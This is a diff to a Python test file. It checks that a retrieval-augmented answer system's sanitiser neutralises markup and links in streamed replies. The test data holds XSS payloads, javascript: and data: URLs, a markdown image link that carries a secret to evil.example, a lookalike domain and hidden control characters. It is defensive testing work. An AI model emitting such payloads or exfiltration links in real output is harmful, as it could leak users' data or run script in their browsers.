@@ -8,135 +8,116 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from rag.inert import InertMarkdown, inert
+from eval.injection.inertness import faults
+from rag.answer import Token
+from rag.inert import InertMarkdown, VisibleText, inert
+from rag.judge.judge import SentenceJudge
+from rag.types import Evidence
+from rag.writing.checked import CheckedText
+from tests.fakes import CACHE_PAPER, ROBOT_PAPER, WordEntailment
 
-PARTS = st.lists(
-    st.sampled_from(
-        [
-            "<",
-            "/",
-            "!",
-            "img src=",
-            "script>",
-            "[",
-            "]",
-            "(",
-            ")",
-            ":",
-            "http",
-            "s:",
-            "//",
-            "www",
-            ".",
-            "x.y",
-            "@",
-            "a",
-            " ",
-        ]
-    )
-    | st.sampled_from(["\n", "data:", "javascript", "mailto:", "![", "](", "**", "5 < 6 ", "[1]"])
-).map("".join)
-LIVE = re.compile(r"<[A-Za-z/!?]|\]\(|!\[|https?://\w|\bwww\.\w|javascript:\w", re.IGNORECASE)
+PARTS = (
+    *("<", ">", "/", "!", "[", "]", "(", ")", "]:", "&", ";", "@", ":", "//", ".", "\n", " ", "\\", "`", "|", "- "),
+    *("img src=x onerror=a()", "script", "a href=", "&lt;", "&#60;", "&amp;lt;", "&#x5b;", "&colon;", "http", "s://"),
+    *("javascript:", "data:text/html,", "www.", "evil", ".com", "evil.example", "[99]", "[1]", "[9", "9]", "ref"),
+    *("\u200b", "\u202e", "\x1b[31m", "\U000e0041", "\r", "\u2028", "x", "1"),
+)
+HOSTILE = st.lists(st.sampled_from(PARTS), max_size=30).map("".join)
 
 
-def run(pieces: Sequence[str]) -> str:
-    markdown = InertMarkdown()
-    return "".join(markdown.feed(piece) for piece in pieces) + markdown.flush()
+def cut(text: str, data: st.DataObject) -> list[str]:
+    lengths = data.draw(st.lists(st.integers(1, 7), min_size=len(text), max_size=len(text)))
+    ends = [0]
+    for length in lengths:
+        ends.append(min(ends[-1] + length, len(text)))
+    return [text[start:end] for start, end in pairwise(ends)]
+
+
+def streamed(pieces: Sequence[str]) -> str:
+    seen, markdown = VisibleText(), InertMarkdown()
+    shown = "".join(markdown.feed(seen.feed(piece)) for piece in pieces)
+    return shown + markdown.feed(seen.flush()) + markdown.flush()
+
+
+def checked(pieces: Sequence[str]) -> CheckedText:
+    evidence = [Evidence(1, CACHE_PAPER, ()), Evidence(2, ROBOT_PAPER, ())]
+    text = CheckedText(evidence, SentenceJudge(WordEntailment()))
+    events = [event for piece in pieces for event in text.feed(piece)] + list(text.end())
+    assert "".join(event.text for event in events if isinstance(event, Token)) == text.text
+    return text
 
 
 @pytest.mark.parametrize(
     ("written", "shown"),
     [
-        ("<img src=x onerror=y>", "‹img src=x onerror=y>"),
-        ("<script>x</script>", "‹script>x‹/script>"),
-        ("<!-- x -->", "‹!-- x -->"),
-        ("<?php x", "‹?php x"),
-        ("![chart](http://evil.example/a.png?q=1)", "! [chart] ((link removed))"),
-        ("[paper](https://evil.example)", "[paper] ((link removed))"),
-        ("[paper](/local)", "[paper] (/local)"),
+        ("![plan](https://evil.example/p?q=secret)", "! [plan] ((link removed))"),
+        ("![plan][ref]\n\n[ref]: //evil.example/p", "! [plan][ref]\n\n[ref] : (link removed)"),
+        ("- [ref]: /p.png", "- [ref] : /p.png"),
+        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
+        ("&lt;script&gt;", "‹script>"),
+        ("&amp;lt;script", "& lt;script"),
+        ("[a](javascript:alert)", "[a] ((link removed))"),
         ("<https://evil.example>", "‹(link removed)>"),
-        ("See www.evil.example/x now.", "See (link removed) now."),
-        ("See //evil.example/x now.", "See (link removed) now."),
-        ("See HTTP://EVIL.EXAMPLE", "See (link removed)"),
-        ("[x](javascript:alert)", "[x] ((link removed))"),
+        ("_http://evil.example_", "_(link removed)_"),
+        ("https&#58;//evil.example/x now", "(link removed) now"),
+        ("java\u200bscript:alert", "(link removed)"),
+        ("write to me@evil.example.", "write to me (link removed)."),
+        ("go to client.hooli-schwab.com now", "go to client (link removed) now"),
         ("data:text/html,x", "(link removed)"),
-        ("Write to a.b@evil.example.", "Write to a.b(link removed)."),
-        ("[a][b]\n\n[b]: /local", "[a][b]\n\n[b] : /local"),
-        ("[b]: /local", "[b] : /local"),
+        ("\u202eevil\u202c \x1b[31mred \U000e0041", "evil [31mred "),
     ],
 )
-def test_markup_and_addresses_become_inert(written: str, shown: str) -> None:
-    assert run([written]) == shown
+def test_what_is_active_is_shown_as_text(written: str, shown: str) -> None:
+    assert inert(written) == shown
+    assert faults(shown) == frozenset()
 
 
 @pytest.mark.parametrize(
-    "text",
+    ("written", "shown"),
     [
-        "5 < 6 and a <- b and 3 <= 4",
-        "Pebble [1] prunes it [2][3].",
-        "| a | b |\n|---|---|\n| c [1] | d |",
-        "data: 5 GB, at 3//2 of it, by @user",
-        "**bold** and `code` and - item\n- item!",
-        "Is it [a]? Yes!",
-        "",
+        ("a < b, x <= y, precision@10, and/or, 5//2", "a < b, x <= y, precision@10, and/or, 5//2"),
+        ("x<y and C++ <T>", "x‹y and C++ ‹T>"),
+        ("[1]: note", "[1] : note"),
+        ("mAP@0.5 rises", "mAP @0.5 rises"),
+        ("e.g. train.py of ASP.NET, AT&T and R&D", "e.g. train.py of ASP.NET, AT&T and R&D"),
+        ("Each file: a row; data: more", "Each file: a row; data: more"),
+        ("in memory.In addition", "in memory.In addition"),
     ],
 )
-def test_plain_text_stays_as_it_is(text: str) -> None:
-    assert run([text]) == run(list(text)) == text
+def test_comparisons_and_notes_stay_readable(written: str, shown: str) -> None:
+    assert inert(written) == shown
 
 
-def test_whole_text_is_made_inert_at_once() -> None:
-    assert inert("<b>x</b> at http://x.y [z](/w)") == "‹b>x‹/b> at (link removed) [z] (/w)"
+@given(HOSTILE, st.data())
+def test_no_splice_of_hostile_pieces_is_active(text: str, data: st.DataObject) -> None:
+    shown = streamed(cut(text, data))
+    assert faults(re.sub(r"\[\d+\]", "", shown)) == frozenset()
+    assert shown == inert(text)
 
 
-@pytest.mark.parametrize(
-    "text",
-    ["<img src=x>", "<script>x", "![a](http://x.y/z)", "[a](/b)", "See www.x.y now", "a@b.example", "[b]: /x", "<b>"],
-)
-def test_markup_in_pieces_is_inert_all_the_same(text: str) -> None:
-    assert run(list(text)) == run([text])
+@given(HOSTILE, st.data())
+def test_no_checked_reply_is_active_or_cites_what_was_not_sent(text: str, data: st.DataObject) -> None:
+    reply = checked(cut(text, data))
+    assert faults(reply.text, range(1, len(reply.cited) + 1)) == frozenset()
 
 
-@pytest.mark.parametrize(
-    "text", ["</script>", "<!-- x -->", "<form action=x>", "<meta http-equiv=refresh>", "<h1>x", "<div>", "<math>"]
-)
-def test_tag_that_begins_like_an_address_is_inert_in_pieces(text: str) -> None:
-    assert not LIVE.search(run(list(text)))
+@pytest.mark.parametrize("length", [1, 2, 3, 4, 5, 6, 7])
+def test_marker_taken_out_of_a_tag_does_not_join_it(length: int) -> None:
+    text = "See <[99]img src=x onerror=a()> and ht[99]tps://evil.example and [9[99]9] and [[99]1]."
+    reply = checked([text[i : i + length] for i in range(0, len(text), length)])
+    assert reply.text == "See ‹img src=x onerror=a()> and (link removed) and [9 9] and [ 1]."
+    assert reply.cited == ()
 
 
-@pytest.mark.parametrize("text", ["So it is [1]https://evil.example/x", "So it is [1]javascript:x"])
-def test_address_behind_a_marker_is_removed_in_pieces(text: str) -> None:
-    assert not LIVE.search(run(list(text)))
-
-
-@pytest.mark.parametrize("text", ["> [b]: /x", "  [b]: /x"])
-def test_indented_definition_is_inert_in_pieces(text: str) -> None:
-    assert run(list(text)) == run([text])
-
-
-@given(PARTS)
-def test_no_markup_is_left_of_a_whole_text(text: str) -> None:
-    assert not LIVE.search(inert(text))
-
-
-@given(PARTS, st.data())
-def test_no_markup_is_left_however_the_text_is_cut(text: str, data: st.DataObject) -> None:
-    text += "</b>"
-    cuts = sorted({*data.draw(st.lists(st.integers(0, len(text)))), len(text) - 2})
-    assert not LIVE.search(run([text[start:end] for start, end in pairwise([0, *cuts, len(text)])]))
-
-
-@given(PARTS)
-def test_no_more_than_three_hundred_characters_are_held_back(text: str) -> None:
+def test_word_without_an_end_is_not_held_back_for_ever() -> None:
     markdown = InertMarkdown()
-    held = 0
-    for character in "[" + "x" * 400 + text:
-        held += 1
-        if markdown.feed(character):
-            held = 0
-        assert held <= 310
+    shown = "".join(markdown.feed("ab.") for _ in range(1000))
+    assert len(shown) > 2500
 
 
-def test_long_word_with_an_at_sign_is_not_held_back_for_ever() -> None:
-    markdown = InertMarkdown()
-    assert len("".join(markdown.feed("a@a") for _ in range(300))) > 500
+def test_address_without_an_end_is_replaced_whole() -> None:
+    assert streamed(["see https://evil.example/", *(["abcdef/"] * 300), " end"]) == "see (link removed) end"
+
+
+def test_plain_words_are_not_held_back() -> None:
+    assert InertMarkdown().feed("Pebble prunes") == "Pebble prunes"
